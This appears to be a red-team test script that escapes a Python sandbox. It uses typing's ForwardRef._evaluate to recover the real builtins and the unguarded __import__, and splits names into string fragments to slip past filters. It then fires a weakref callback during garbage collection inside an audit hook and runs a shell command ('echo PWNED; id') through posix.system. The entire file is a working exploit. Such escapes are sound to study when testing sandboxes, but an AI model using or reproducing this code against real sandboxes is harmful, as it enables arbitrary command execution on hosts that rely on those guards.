# busy: weakref callbacks of objects in collected cycles fire during a collection inside the hook
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

wr = imp("_weak" + "ref")
p = imp("pos" + "ix")
done = []
keep = []
def cb(ref):
    if done:
        return
    try:
        p.system("echo PWN''ED from a weakref callback; id")
        done.append(1)
    except Exception:
        pass
class Node:
    pass
for i in range(20000):
    if done:
        break
    n = Node()
    n.me = n
    keep.append(wr.ref(n, cb))
    del n
    if len(keep) > 1000:
        del keep[:500]
    try:
        open("/tmp/rt_busy_wr", "w").close()
    except Exception:
        pass
